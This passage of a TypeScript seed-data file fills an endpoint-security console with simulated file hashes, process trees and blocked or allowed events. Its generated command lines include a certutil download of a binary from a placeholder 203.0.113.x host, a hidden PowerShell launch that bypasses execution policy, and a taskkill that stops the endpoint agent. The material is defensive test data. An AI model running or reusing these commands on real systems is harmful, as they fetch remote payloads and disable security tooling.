// Seed data of the Inspection area (file hashes in all four classes, the event variants with
// their process trees, security events, the aggregates the lists read, the audit log) and of
// the Computer area (details of the named computers, users by computers, one-time passwords,
// agents the management server still lists, company licenses).
//
// The named rows of the contract's examples come first, with the same ids and values (times
// shifted so that the examples' "now", 2026-11-21T09:00Z, is the seed time). Around them:
// a catalogue of realistic files (generated in JS, a few thousand rows), a few scripted
// incidents on named computers, and the bulk of the events generated in SQL from the
// catalogue (INSERT ... SELECT over generate_series with deterministic hash expressions), so
// that a million events seed in seconds.
import { createHash } from 'node:crypto';
import type { Database } from '../db/database';
import type { SeedModule } from './index';
import { insertRows, type SeedContext } from './context';
import type { Random } from './random';

const EXAMPLE_TIME = Date.parse('2026-11-21T09:00:00Z');
const HOUR = 3_600_000;
const DAY = 86_400_000;

type HashClass = 'harmless' | 'suspicious' | 'malicious' | 'notFound';
type HashType = 'Executable' | 'Dll' | 'Script' | 'Installer' | 'Driver';
type Severity = 'Critical' | 'High' | 'Medium' | 'Low' | 'Info';
type EventType =
  | 'ExecutionBlocked'
  | 'ExecutionAllowed'
  | 'ScriptBlocked'
  | 'DllLoadBlocked'
  | 'RemovableMediaBlocked'
  | 'NetworkBlocked'
  | 'TamperAttempt'
  | 'PolicyViolation'
  | 'ElevationRequested'
  | 'CertificateUntrusted';
type Action = 'blocked' | 'allowed' | 'audited';
/** How the file gets started: decides the parents of its process tree. */
type Launch =
  | 'explorer'
  | 'browser'
  | 'outlook'
  | 'macro'
  | 'script'
  | 'vbs'
  | 'task'
  | 'service'
  | 'rundll'
  | 'msi'
  | 'usb'
  | 'tamper'
  | 'driver'
  | 'dev';
/** Whose account the event runs under: the computer's user, the backup service, or the system. */
type UserKind = 0 | 1 | 2;

const NOT_BLOCKABLE = new Set<EventType>(['ExecutionAllowed', 'ElevationRequested']);

// ---------------------------------------------------------------- process trees

interface ProcessNode {
  processId: number;
  processName: string;
  filePath: string;
  sha256: string | null;
  publisher: string | null;
  commandLine: string | null;
  children: ProcessNode[];
}

interface Proc {
  name: string;
  path: string;
  sha256: string;
  publisher: string | null;
}

/** System binaries that appear as parents in the trees (sha256 as in the contract's examples). */
const SYS: Record<string, Proc> = {
  explorer: {
    name: 'explorer.exe',
    path: 'C:\\Windows\\explorer.exe',
    sha256: '7592a3326e8f8297547f8c170b96b8aa8f5234027fd76593841a6574f098759c',
    publisher: 'Microsoft Windows',
  },
  svchost: {
    name: 'svchost.exe',
    path: 'C:\\Windows\\System32\\svchost.exe',
    sha256: '8e8eab0b4bfdc35c5f238935b81298e43970ee6818e9629d725297ebf03838a6',
    publisher: 'Microsoft Windows',
  },
  cmd: {
    name: 'cmd.exe',
    path: 'C:\\Windows\\System32\\cmd.exe',
    sha256: '7371f071a9a4e653a5afd134bce9c735ef74b0421d6988958e5c6d8a34feaa3b',
    publisher: 'Microsoft Windows',
  },
  rundll32: {
    name: 'rundll32.exe',
    path: 'C:\\Windows\\System32\\rundll32.exe',
    sha256: 'c7e6e3becb343cfec4d3732c04ba6b65d9d4291af3b8080974a2a4c4c95f0e3a',
    publisher: 'Microsoft Windows',
  },
  powershell: {
    name: 'powershell.exe',
    path: 'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe',
    sha256: '6b86b273ff34fce19d6b804eff5a3f5747ada4eaa22f1d49c01e52ddb7875b4b',
    publisher: 'Microsoft Windows',
  },
  excel: {
    name: 'EXCEL.EXE',
    path: 'C:\\Program Files\\Microsoft Office\\root\\Office16\\EXCEL.EXE',
    sha256: '2c26b46b68ffc68ff99b453c1d30413413422d706483bfa0f98a5e886266e7ae',
    publisher: 'Microsoft Corporation',
  },
  code: {
    name: 'Code.exe',
    path: 'C:\\Users\\{user}\\AppData\\Local\\Programs\\Microsoft VS Code\\Code.exe',
    sha256: '8860d259e8c6688fffad4a3b928fda578bb42e7034d09a8bf1410d4ccf7993e3',
    publisher: 'Microsoft Corporation',
  },
  services: {
    name: 'services.exe',
    path: 'C:\\Windows\\System32\\services.exe',
    sha256: 'b1d4f3a0cf0a1b1d4e4c27c3e5a4ad0e8b1a0c4c3f1e1dbd1f6b8b0e6c9d1a22',
    publisher: 'Microsoft Windows',
  },
  chrome: {
    name: 'chrome.exe',
    path: 'C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe',
    sha256: 'a3f1c0d7e2b94f6a8c5d1e0b7f2a9c4d6e8b1f3a5c7d9e0b2f4a6c8d0e1f3a5b',
    publisher: 'Google LLC',
  },
  outlook: {
    name: 'OUTLOOK.EXE',
    path: 'C:\\Program Files\\Microsoft Office\\root\\Office16\\OUTLOOK.EXE',
    sha256: 'e5f7a9b1c3d5e7f9a1b3c5d7e9f1a3b5c7d9e1f3a5b7c9d1e3f5a7b9c1d3e5f7',
    publisher: 'Microsoft Corporation',
  },
  wscript: {
    name: 'wscript.exe',
    path: 'C:\\Windows\\System32\\wscript.exe',
    sha256: 'c4d6e8f0a2b4c6d8e0f2a4b6c8d0e2f4a6b8c0d2e4f6a8b0c2d4e6f8a0b2c4d6',
    publisher: 'Microsoft Windows',
  },
  msiexec: {
    name: 'msiexec.exe',
    path: 'C:\\Windows\\System32\\msiexec.exe',
    sha256: 'd9e1f3a5b7c9d1e3f5a7b9c1d3e5f7a9b1c3d5e7f9a1b3c5d7e9f1a3b5c7d9e1',
    publisher: 'Microsoft Windows',
  },
  system: {
    name: 'System',
    path: 'C:\\Windows\\System32\\ntoskrnl.exe',
    sha256: 'f0e2d4c6b8a0f2e4d6c8b0a2f4e6d8c0b2a4f6e8d0c2b4a6f8e0d2c4b6a8f0e2',
    publisher: 'Microsoft Windows',
  },
};

const quoted = (path: string) => (path.includes(' ') ? `"${path}"` : path);

function buildTree(
  rng: Random,
  launch: Launch,
  file: { name: string; path: string; sha256: string; publisher: string | null },
): ProcessNode {
  const pid = () => rng.int(200, 5000) * 4;
  const node = (p: Proc, commandLine: string | null, children: ProcessNode[] = []): ProcessNode => ({
    processId: pid(),
    processName: p.name,
    filePath: p.path,
    sha256: p.sha256,
    publisher: p.publisher,
    commandLine,
    children,
  });
  const self = (commandLine: string) => node({ ...file }, commandLine);
  const explorer = (children: ProcessNode[]) => node(SYS.explorer!, 'C:\\Windows\\Explorer.EXE', children);
  switch (launch) {
    case 'browser':
      return explorer([node(SYS.chrome!, `"${SYS.chrome!.path}"`, [self(quoted(file.path))])]);
    case 'outlook':
      return explorer([node(SYS.outlook!, `"${SYS.outlook!.path}"`, [self(quoted(file.path))])]);
    case 'macro': {
      const doc = `"${SYS.excel!.path}" "C:\\Users\\{user}\\Downloads\\Remittance_${rng.int(1000, 9999)}.xlsm"`;
      const child = file.name.toLowerCase().endsWith('.ps1')
        ? node(
            SYS.powershell!,
            `powershell.exe -NoProfile -WindowStyle Hidden -ExecutionPolicy Bypass -File ${quoted(file.path)}`,
          )
        : self(`${quoted(file.path)} -urlcache -split -f http://203.0.113.${rng.int(2, 254)}/a.bin`);
      return explorer([node(SYS.excel!, doc, [child])]);
    }
    case 'script': {
      const lower = file.name.toLowerCase();
      if (lower.endsWith('.bat') || lower.endsWith('.cmd'))
        return explorer([node(SYS.cmd!, `C:\\Windows\\system32\\cmd.exe /c ${quoted(file.path)}`)]);
      return explorer([
        node(SYS.powershell!, `powershell.exe -NoProfile -ExecutionPolicy Bypass -File ${quoted(file.path)}`),
      ]);
    }
    case 'vbs':
      return explorer([node(SYS.wscript!, `"C:\\Windows\\System32\\wscript.exe" ${quoted(file.path)}`)]);
    case 'task':
      return node(SYS.svchost!, 'C:\\Windows\\system32\\svchost.exe -k netsvcs -p -s Schedule', [
        node(SYS.cmd!, `C:\\Windows\\system32\\cmd.exe /c ${quoted(file.path)}`, [self(quoted(file.path))]),
      ]);
    case 'service':
      return node(SYS.services!, 'C:\\Windows\\system32\\services.exe', [self(quoted(file.path))]);
    case 'rundll':
      return explorer([
        node(SYS.rundll32!, `C:\\Windows\\System32\\rundll32.exe ${file.path},DllRegisterServer`),
      ]);
    case 'msi':
      return explorer([node(SYS.msiexec!, `C:\\Windows\\System32\\msiexec.exe /i ${quoted(file.path)}`)]);
    case 'tamper':
      return explorer([
        node(SYS.cmd!, '"C:\\Windows\\system32\\cmd.exe"', [self(`${file.name} stop EndpointAgent`)]),
      ]);
    case 'driver':
      return node(SYS.system!, null, [self(file.path)]);
    case 'dev': {
      const args =
        file.name === 'python.exe'
          ? '-m pip install -r requirements.txt'
          : file.name === 'git.exe'
            ? 'fetch origin'
            : 'server.js';
      return explorer([node(SYS.code!, `"${SYS.code!.path}"`, [self(`${quoted(file.path)} ${args}`)])]);
    }
    case 'usb':
    case 'explorer':
    default:
      return explorer([self(quoted(file.path))]);
  }
}

// ---------------------------------------------------------------- the catalogue of files

interface Product {
  name: string;
  dir: string;
  publisher: string | null;
  cls: HashClass;
  /** Popularity: ranks the files in the event pool. 0 keeps a file out of the pool. */
  weight: number;
  launch: Launch;
  event: EventType;
  policy: string | null;
  ja?: boolean;
}

const P = (
  name: string,
  dir: string,
  publisher: string | null,
  cls: HashClass,
  weight: number,
  launch: Launch,
  event: EventType,
  policy: string | null,
  ja = false,
): Product => ({ name, dir, publisher, cls, weight, launch, event, policy, ja });

const OFFICE = 'C:\\Program Files\\Microsoft Office\\root\\Office16';
const DL = 'C:\\Users\\{user}\\Downloads';
const TEMP = 'C:\\Users\\{user}\\AppData\\Local\\Temp';
const ROAMING = 'C:\\Users\\{user}\\AppData\\Roaming';

const PRODUCTS: Product[] = [
  // harmless, allowed by publisher or path rules
  P(
    'EXCEL.EXE',
    OFFICE,
    'Microsoft Corporation',
    'harmless',
    100,
    'explorer',
    'ExecutionAllowed',
    'Trusted Publishers',
  ),
  P(
    'WINWORD.EXE',
    OFFICE,
    'Microsoft Corporation',
    'harmless',
    95,
    'explorer',
    'ExecutionAllowed',
    'Trusted Publishers',
  ),
  P(
    'OUTLOOK.EXE',
    OFFICE,
    'Microsoft Corporation',
    'harmless',
    92,
    'explorer',
    'ExecutionAllowed',
    'Trusted Publishers',
  ),
  P(
    'POWERPNT.EXE',
    OFFICE,
    'Microsoft Corporation',
    'harmless',
    60,
    'explorer',
    'ExecutionAllowed',
    'Trusted Publishers',
  ),
  P(
    'ONENOTE.EXE',
    OFFICE,
    'Microsoft Corporation',
    'harmless',
    20,
    'explorer',
    'ExecutionAllowed',
    'Trusted Publishers',
  ),
  P(
    'MSACCESS.EXE',
    OFFICE,
    'Microsoft Corporation',
    'harmless',
    8,
    'explorer',
    'ExecutionAllowed',
    'Trusted Publishers',
  ),
  P(
    'ms-teams.exe',
    'C:\\Program Files\\WindowsApps\\MSTeams_24295.605.3225.8804_x64__8wekyb3d8bbwe',
    'Microsoft Corporation',
    'harmless',
    85,
    'explorer',
    'ExecutionAllowed',
    'Trusted Publishers',
  ),
  P(
    'msedge.exe',
    'C:\\Program Files (x86)\\Microsoft\\Edge\\Application',
    'Microsoft Corporation',
    'harmless',
    70,
    'explorer',
    'ExecutionAllowed',
    'Trusted Publishers',
  ),
  P(
    'OneDrive.exe',
    'C:\\Users\\{user}\\AppData\\Local\\Microsoft\\OneDrive',
    'Microsoft Corporation',
    'harmless',
    60,
    'explorer',
    'ExecutionAllowed',
    'Trusted Publishers',
  ),
  P(
    'chrome.exe',
    'C:\\Program Files\\Google\\Chrome\\Application',
    'Google LLC',
    'harmless',
    80,
    'explorer',
    'ExecutionAllowed',
    'Trusted Publishers',
  ),
  P(
    'firefox.exe',
    'C:\\Program Files\\Mozilla Firefox',
    'Mozilla Corporation',
    'harmless',
    22,
    'explorer',
    'ExecutionAllowed',
    'Trusted Publishers',
  ),
  P(
    'Zoom.exe',
    'C:\\Users\\{user}\\AppData\\Roaming\\Zoom\\bin',
    'Zoom Video Communications, Inc.',
    'harmless',
    40,
    'explorer',
    'ExecutionAllowed',
    'Default Enclave',
  ),
  P(
    'Acrobat.exe',
    'C:\\Program Files\\Adobe\\Acrobat DC\\Acrobat',
    'Adobe Inc.',
    'harmless',
    40,
    'explorer',
    'ExecutionAllowed',
    'Trusted Publishers',
  ),
  P(
    'AcroCEF.exe',
    'C:\\Program Files\\Adobe\\Acrobat DC\\Acrobat\\AcroCEF',
    'Adobe Inc.',
    'harmless',
    14,
    'explorer',
    'ExecutionAllowed',
    'Trusted Publishers',
  ),
  P(
    '7zG.exe',
    'C:\\Program Files\\7-Zip',
    'Igor Pavlov',
    'harmless',
    15,
    'explorer',
    'ExecutionAllowed',
    'Default Enclave',
  ),
  P(
    '7zFM.exe',
    'C:\\Program Files\\7-Zip',
    'Igor Pavlov',
    'harmless',
    9,
    'explorer',
    'ExecutionAllowed',
    'Default Enclave',
  ),
  P(
    'notepad++.exe',
    'C:\\Program Files\\Notepad++',
    'Notepad++',
    'harmless',
    15,
    'explorer',
    'ExecutionAllowed',
    'Default Enclave',
  ),
  P(
    'slack.exe',
    'C:\\Users\\{user}\\AppData\\Local\\slack',
    'Slack Technologies, LLC',
    'harmless',
    18,
    'explorer',
    'ExecutionAllowed',
    'Trusted Publishers',
  ),
  P(
    'csc_ui.exe',
    'C:\\Program Files (x86)\\Cisco\\Cisco Secure Client\\UI',
    'Cisco Systems, Inc.',
    'harmless',
    30,
    'explorer',
    'ExecutionAllowed',
    'Trusted Publishers',
  ),
  P(
    'SelfService.exe',
    'C:\\Program Files (x86)\\Citrix\\ICA Client\\SelfServicePlugin',
    'Citrix Systems, Inc.',
    'harmless',
    14,
    'explorer',
    'ExecutionAllowed',
    'Trusted Publishers',
  ),
  P(
    'javaw.exe',
    'C:\\Program Files\\Java\\jre-1.8\\bin',
    'Oracle America, Inc.',
    'harmless',
    12,
    'explorer',
    'ExecutionAllowed',
    'Default Enclave',
  ),
  P(
    'python.exe',
    'C:\\Users\\{user}\\AppData\\Local\\Programs\\Python\\Python312',
    'Python Software Foundation',
    'harmless',
    12,
    'dev',
    'ExecutionAllowed',
    'Developer Tools',
  ),
  P(
    'node.exe',
    'C:\\Program Files\\nodejs',
    'OpenJS Foundation',
    'harmless',
    10,
    'dev',
    'ExecutionAllowed',
    'Developer Tools',
  ),
  P(
    'git.exe',
    'C:\\Program Files\\Git\\cmd',
    'Johannes Schindelin',
    'harmless',
    12,
    'dev',
    'ExecutionAllowed',
    'Developer Tools',
  ),
  P(
    'Code.exe',
    'C:\\Users\\{user}\\AppData\\Local\\Programs\\Microsoft VS Code',
    'Microsoft Corporation',
    'harmless',
    20,
    'explorer',
    'ExecutionAllowed',
    'Developer Tools',
  ),
  P(
    'acad.exe',
    'C:\\Program Files\\Autodesk\\AutoCAD 2025',
    'Autodesk, Inc.',
    'harmless',
    9,
    'explorer',
    'ExecutionAllowed',
    'Trusted Publishers',
  ),
  P(
    'SLDWORKS.exe',
    'C:\\Program Files\\SOLIDWORKS Corp\\SOLIDWORKS',
    'Dassault Systemes SolidWorks Corp',
    'harmless',
    7,
    'explorer',
    'ExecutionAllowed',
    'Trusted Publishers',
  ),
  P(
    'saplogon.exe',
    'C:\\Program Files (x86)\\SAP\\FrontEnd\\SAPgui',
    'SAP SE',
    'harmless',
    14,
    'explorer',
    'ExecutionAllowed',
    'Finance Global Policy',
  ),
  P(
    'vlc.exe',
    'C:\\Program Files\\VideoLAN\\VLC',
    'VideoLAN',
    'harmless',
    6,
    'explorer',
    'ExecutionAllowed',
    'Default Enclave',
  ),
  P(
    'Snagit32.exe',
    'C:\\Program Files\\TechSmith\\Snagit 2024',
    'TechSmith Corporation',
    'harmless',
    5,
    'explorer',
    'ExecutionAllowed',
    'Trusted Publishers',
  ),
  P(
    'idea64.exe',
    'C:\\Program Files\\JetBrains\\IntelliJ IDEA 2024.3\\bin',
    'JetBrains s.r.o.',
    'harmless',
    5,
    'explorer',
    'ExecutionAllowed',
    'Developer Tools',
  ),
  P(
    'LogiOptionsPlus.exe',
    'C:\\Program Files\\LogiOptionsPlus',
    'Logitech Inc',
    'harmless',
    8,
    'service',
    'ExecutionAllowed',
    'Trusted Publishers',
  ),
  P(
    'SupportAssist.exe',
    'C:\\Program Files\\Dell\\SupportAssist',
    'Dell Inc',
    'harmless',
    8,
    'service',
    'ExecutionAllowed',
    'Trusted Publishers',
  ),
  P(
    'GoogleUpdate.exe',
    'C:\\Program Files (x86)\\Google\\Update',
    'Google LLC',
    'harmless',
    22,
    'task',
    'ExecutionAllowed',
    'Trusted Publishers',
  ),
  P(
    'MicrosoftEdgeUpdate.exe',
    'C:\\Program Files (x86)\\Microsoft\\EdgeUpdate',
    'Microsoft Corporation',
    'harmless',
    22,
    'task',
    'ExecutionAllowed',
    'Trusted Publishers',
  ),
  P(
    'OfficeClickToRun.exe',
    'C:\\Program Files\\Common Files\\microsoft shared\\ClickToRun',
    'Microsoft Corporation',
    'harmless',
    16,
    'service',
    'ExecutionAllowed',
    'Trusted Publishers',
  ),
  P(
    'mstsc.exe',
    'C:\\Windows\\System32',
    'Microsoft Windows',
    'harmless',
    14,
    'explorer',
    'ExecutionAllowed',
    'Default Enclave',
  ),
  P(
    'mmc.exe',
    'C:\\Windows\\System32',
    'Microsoft Windows',
    'harmless',
    6,
    'explorer',
    'ExecutionAllowed',
    'Default Enclave',
  ),
  P(
    'nvlddmkm.sys',
    'C:\\Windows\\System32\\DriverStore\\FileRepository\\nv_dispi.inf_amd64_6e9f1d3b0a4c2e85',
    'NVIDIA Corporation',
    'harmless',
    3,
    'driver',
    'ExecutionAllowed',
    'Driver Control',
  ),
  P(
    'mso.dll',
    'C:\\Program Files\\Common Files\\microsoft shared\\OFFICE16',
    'Microsoft Corporation',
    'harmless',
    4,
    'explorer',
    'ExecutionAllowed',
    'Trusted Publishers',
  ),
  // harmless, but blocked where the policy does not allow them
  P(
    'Spotify.exe',
    'C:\\Users\\{user}\\AppData\\Roaming\\Spotify',
    'Spotify AB',
    'harmless',
    9,
    'explorer',
    'ExecutionBlocked',
    'Default Enclave',
  ),
  P(
    'WhatsApp.exe',
    'C:\\Users\\{user}\\AppData\\Local\\WhatsApp',
    'WhatsApp LLC',
    'harmless',
    5,
    'explorer',
    'ExecutionBlocked',
    'Default Enclave',
  ),
  P(
    'steam.exe',
    'C:\\Program Files (x86)\\Steam',
    'Valve Corp.',
    'harmless',
    2,
    'explorer',
    'ExecutionBlocked',
    'Default Enclave',
  ),
  P(
    'Dropbox.exe',
    'C:\\Program Files (x86)\\Dropbox\\Client',
    'Dropbox, Inc',
    'harmless',
    6,
    'explorer',
    'ExecutionBlocked',
    'Default Enclave',
  ),
  P('putty.exe', DL, 'Simon Tatham', 'harmless', 6, 'explorer', 'ExecutionBlocked', 'Default Enclave'),
  P(
    'WinSCP.exe',
    'C:\\Program Files (x86)\\WinSCP',
    'Martin Prikryl',
    'harmless',
    5,
    'explorer',
    'NetworkBlocked',
    'Netlock Policy',
  ),
  P(
    'Postman.exe',
    'C:\\Users\\{user}\\AppData\\Local\\Postman',
    'Postman, Inc.',
    'harmless',
    5,
    'explorer',
    'ExecutionBlocked',
    'Developer Tools',
  ),
  P(
    'WinRAR.exe',
    'C:\\Program Files\\WinRAR',
    'win.rar GmbH',
    'harmless',
    6,
    'explorer',
    'ExecutionBlocked',
    'Default Enclave',
  ),
  P(
    'certutil.exe',
    'C:\\Windows\\System32',
    'Microsoft Windows',
    'harmless',
    4,
    'macro',
    'ExecutionBlocked',
    'Default Enclave',
  ),
  P(
    'bitsadmin.exe',
    'C:\\Windows\\System32',
    'Microsoft Windows',
    'harmless',
    2,
    'task',
    'ExecutionBlocked',
    'Default Enclave',
  ),
  P(
    'libcef.dll',
    'C:\\Users\\{user}\\AppData\\Local\\Programs\\Opera',
    'Opera Norway AS',
    'harmless',
    3,
    'explorer',
    'DllLoadBlocked',
    'Code Load',
  ),
  P(
    'ZoomInstallerFull.msi',
    DL,
    'Zoom Video Communications, Inc.',
    'harmless',
    6,
    'msi',
    'ElevationRequested',
    'Elevation Policy',
  ),
  P('ChromeSetup.exe', DL, 'Google LLC', 'harmless', 6, 'browser', 'ElevationRequested', 'Elevation Policy'),
  P(
    'npp.8.7.1.Installer.x64.exe',
    DL,
    'Notepad++',
    'harmless',
    3,
    'browser',
    'ElevationRequested',
    'Elevation Policy',
  ),
  P(
    'FirefoxPortable.exe',
    'E:\\PortableApps\\FirefoxPortable',
    'PortableApps.com',
    'harmless',
    3,
    'usb',
    'RemovableMediaBlocked',
    'Removable Media',
  ),
  P(
    'taskkill.exe',
    'C:\\Windows\\System32',
    'Microsoft Windows',
    'harmless',
    1,
    'tamper',
    'TamperAttempt',
    'Agent Tamper Protection',
  ),
  // not found by the lookup: in-house and niche software, scripts
  P(
    'QBW32.exe',
    'C:\\Program Files\\Intuit\\QuickBooks 2026',
    'Intuit Inc.',
    'notFound',
    6,
    'explorer',
    'PolicyViolation',
    'Finance Global Policy',
  ),
  P(
    'LabelPrint.exe',
    'C:\\Program Files (x86)\\LabelSoft\\LabelPrint',
    null,
    'notFound',
    8,
    'explorer',
    'ExecutionBlocked',
    'Default Enclave',
  ),
  P(
    'PlantMonitor.exe',
    'C:\\Plant\\Monitor',
    null,
    'notFound',
    10,
    'service',
    'ExecutionAllowed',
    'Default Enclave',
  ),
  P(
    'InventorySync.exe',
    'C:\\Tools\\InventorySync',
    null,
    'notFound',
    7,
    'task',
    'PolicyViolation',
    'Default Enclave',
  ),
  P(
    'TimeClock.exe',
    'C:\\Program Files (x86)\\TimeClock Plus',
    'Data Management Inc.',
    'notFound',
    6,
    'explorer',
    'ExecutionAllowed',
    'Default Enclave',
  ),
  P(
    'ReportViewer.exe',
    'C:\\Program Files (x86)\\Contoso Reporting',
    'Contoso Reporting Ltd',
    'notFound',
    5,
    'explorer',
    'CertificateUntrusted',
    'Certificate Trust',
  ),
  P('hr_export.exe', 'C:\\Tools\\HR', null, 'notFound', 4, 'task', 'ExecutionBlocked', null),
  P(
    'vendor_plugin.dll',
    'C:\\Program Files (x86)\\Vendor\\Plugins',
    null,
    'notFound',
    4,
    'explorer',
    'DllLoadBlocked',
    'Code Load',
  ),
  P(
    'map_drives.bat',
    'C:\\Users\\{user}\\AppData\\Roaming\\Microsoft\\Windows\\Start Menu\\Programs\\Startup',
    null,
    'notFound',
    9,
    'script',
    'ScriptBlocked',
    'Custom Scripts',
  ),
  P(
    'deploy_printers.ps1',
    'C:\\IT\\Scripts',
    null,
    'notFound',
    7,
    'script',
    'ScriptBlocked',
    'Custom Scripts',
  ),
  P('backup_profile.ps1', 'C:\\IT\\Scripts', null, 'notFound', 6, 'task', 'ScriptBlocked', 'Custom Scripts'),
  P('cleanup_temp.vbs', 'C:\\IT\\Scripts', null, 'notFound', 4, 'vbs', 'ScriptBlocked', 'Custom Scripts'),
  P('Get-Inventory.ps1', 'C:\\IT\\Scripts', null, 'notFound', 4, 'script', 'ScriptBlocked', 'Custom Scripts'),
  P('Setup.exe', 'F:\\', null, 'notFound', 3, 'usb', 'RemovableMediaBlocked', 'Removable Media'),
  P('autorun.exe', 'E:\\', null, 'notFound', 2, 'usb', 'RemovableMediaBlocked', 'Removable Media'),
  // suspicious: remote access, tunnels, admin tools
  P('AnyDesk.exe', DL, 'philandro Software GmbH', 'suspicious', 5, 'browser', 'ExecutionBlocked', null),
  P(
    'rclone.exe',
    'C:\\ProgramData\\sync',
    null,
    'suspicious',
    2,
    'task',
    'ExecutionBlocked',
    'Default Enclave',
  ),
  P(
    'TeamViewer.exe',
    'C:\\Program Files\\TeamViewer',
    'TeamViewer Germany GmbH',
    'suspicious',
    5,
    'explorer',
    'NetworkBlocked',
    'Netlock Policy',
  ),
  P('ngrok.exe', DL, null, 'suspicious', 2, 'explorer', 'NetworkBlocked', 'Netlock Policy'),
  P(
    'PsExec64.exe',
    'C:\\Tools\\SysinternalsSuite',
    'Sysinternals - www.sysinternals.com',
    'suspicious',
    3,
    'explorer',
    'ExecutionBlocked',
    'Default Enclave',
  ),
  P(
    'procdump64.exe',
    'C:\\Tools\\SysinternalsSuite',
    'Sysinternals - www.sysinternals.com',
    'suspicious',
    2,
    'explorer',
    'ExecutionBlocked',
    'Default Enclave',
  ),
  P(
    'nmap.exe',
    'C:\\Program Files (x86)\\Nmap',
    'Insecure.Com LLC',
    'suspicious',
    2,
    'explorer',
    'NetworkBlocked',
    'Netlock Policy',
  ),
  P(
    'advanced_ip_scanner.exe',
    `${TEMP}\\Advanced IP Scanner 2`,
    'Famatech Corp.',
    'suspicious',
    3,
    'explorer',
    'ExecutionBlocked',
    'Default Enclave',
  ),
  P(
    'ScreenConnect.ClientService.exe',
    'C:\\Program Files (x86)\\ScreenConnect Client (6a3f0c9e2b71d845)',
    'ConnectWise, LLC',
    'suspicious',
    3,
    'service',
    'NetworkBlocked',
    'Netlock Policy',
  ),
  P(
    'winvnc.exe',
    'C:\\Program Files\\uvnc bvba\\UltraVNC',
    'uvnc bvba',
    'suspicious',
    2,
    'service',
    'NetworkBlocked',
    'Netlock Policy',
  ),
  P(
    'qbittorrent.exe',
    'C:\\Program Files\\qBittorrent',
    'The qBittorrent project',
    'suspicious',
    2,
    'explorer',
    'NetworkBlocked',
    'Netlock Policy',
  ),
  P(
    'tor.exe',
    'C:\\Users\\{user}\\Desktop\\Tor Browser\\Browser\\TorBrowser\\Tor',
    null,
    'suspicious',
    1,
    'explorer',
    'NetworkBlocked',
    'Netlock Policy',
  ),
  P('plink.exe', TEMP, 'Simon Tatham', 'suspicious', 1, 'explorer', 'NetworkBlocked', 'Netlock Policy'),
  P(
    'ProcessHacker.exe',
    'C:\\Program Files\\Process Hacker 2',
    'Wen Jia Liu',
    'suspicious',
    1,
    'explorer',
    'ExecutionBlocked',
    'Default Enclave',
  ),
  P(
    'WinRing0x64.sys',
    'C:\\Windows\\Temp',
    'OpenLibSys.org',
    'suspicious',
    1,
    'driver',
    'ExecutionBlocked',
    'Driver Control',
  ),
  // malicious: droppers, stealers, loaders (each version gets a new name)
  P('payment_advice_#.exe', DL, null, 'malicious', 1, 'browser', 'ExecutionBlocked', 'Default Enclave'),
  P(
    'Invoice_#.pdf.exe',
    'C:\\Users\\{user}\\AppData\\Local\\Microsoft\\Windows\\INetCache\\Content.Outlook\\Q7XK2M9D',
    null,
    'malicious',
    1,
    'outlook',
    'ExecutionBlocked',
    'Default Enclave',
  ),
  P('DHL_Shipment_#.exe', DL, null, 'malicious', 1, 'browser', 'ExecutionBlocked', 'Default Enclave'),
  P(
    'msupdate#.exe',
    'C:\\ProgramData\\Microsoft\\Update',
    null,
    'malicious',
    1,
    'task',
    'ExecutionBlocked',
    'Default Enclave',
  ),
  P('beacon_#.dll', ROAMING, null, 'malicious', 1, 'rundll', 'DllLoadBlocked', 'Code Load'),
  P('loader_#.ps1', TEMP, null, 'malicious', 1, 'macro', 'ScriptBlocked', 'Custom Scripts'),
  P('Quote_Request_#.vbs', DL, null, 'malicious', 1, 'vbs', 'ScriptBlocked', 'Custom Scripts'),
  P('SharpHound.exe', TEMP, null, 'malicious', 1, 'explorer', 'ExecutionBlocked', 'Default Enclave'),
  P(
    'Rubeus.exe',
    'C:\\Users\\Public\\Music',
    null,
    'malicious',
    1,
    'explorer',
    'ExecutionBlocked',
    'Default Enclave',
  ),
  P('lazagne.exe', TEMP, null, 'malicious', 1, 'explorer', 'ExecutionBlocked', 'Default Enclave'),
  // Japanese software (drawn for computers of Japanese companies)
  P(
    '勘定奉行.exe',
    'C:\\Program Files (x86)\\OBC\\Bugyo',
    '株式会社オービックビジネスコンサルタント',
    'harmless',
    30,
    'explorer',
    'ExecutionAllowed',
    'Trusted Publishers',
    true,
  ),
  P(
    '弥生会計.exe',
    'C:\\Program Files (x86)\\Yayoi\\Kaikei',
    '弥生株式会社',
    'harmless',
    25,
    'explorer',
    'ExecutionAllowed',
    'Trusted Publishers',
    true,
  ),
  P(
    'TARO.EXE',
    'C:\\Program Files (x86)\\JustSystems\\TARO',
    'JUSTSYSTEMS CORPORATION',
    'harmless',
    20,
    'explorer',
    'ExecutionAllowed',
    'Trusted Publishers',
    true,
  ),
  P(
    'CybozuDesktop.exe',
    'C:\\Program Files (x86)\\Cybozu\\Desktop',
    'Cybozu, Inc.',
    'harmless',
    18,
    'explorer',
    'ExecutionAllowed',
    'Trusted Publishers',
    true,
  ),
  P(
    '勤怠管理.exe',
    'C:\\Program Files (x86)\\KintaiSystem',
    'さくらソフト株式会社',
    'notFound',
    22,
    'explorer',
    'ExecutionAllowed',
    'Default Enclave',
    true,
  ),
  P(
    '経費精算.exe',
    'C:\\Tools\\Keihi',
    null,
    'notFound',
    12,
    'explorer',
    'PolicyViolation',
    'Default Enclave',
    true,
  ),
  P(
    '生産管理クライアント.exe',
    'C:\\Seisan\\Client',
    null,
    'notFound',
    14,
    'explorer',
    'ExecutionAllowed',
    'Default Enclave',
    true,
  ),
  P(
    '見積作成.exe',
    'C:\\Users\\{user}\\Desktop\\見積',
    null,
    'notFound',
    8,
    'explorer',
    'ExecutionBlocked',
    'Default Enclave',
    true,
  ),
  P(
    'sakura.exe',
    'C:\\Program Files (x86)\\sakura',
    null,
    'harmless',
    10,
    'explorer',
    'ExecutionBlocked',
    'Default Enclave',
    true,
  ),
  P(
    'Lhaplus.exe',
    'C:\\Program Files (x86)\\Lhaplus',
    null,
    'harmless',
    8,
    'explorer',
    'ExecutionBlocked',
    'Default Enclave',
    true,
  ),
  P(
    'ffftp.exe',
    'C:\\Program Files (x86)\\ffftp',
    null,
    'harmless',
    5,
    'explorer',
    'NetworkBlocked',
    'Netlock Policy',
    true,
  ),
];

function hashTypeOf(name: string, event: EventType): HashType {
  const lower = name.toLowerCase();
  if (lower.endsWith('.dll')) return 'Dll';
  if (lower.endsWith('.sys')) return 'Driver';
  if (/\.(ps1|bat|cmd|vbs|js)$/.test(lower)) return 'Script';
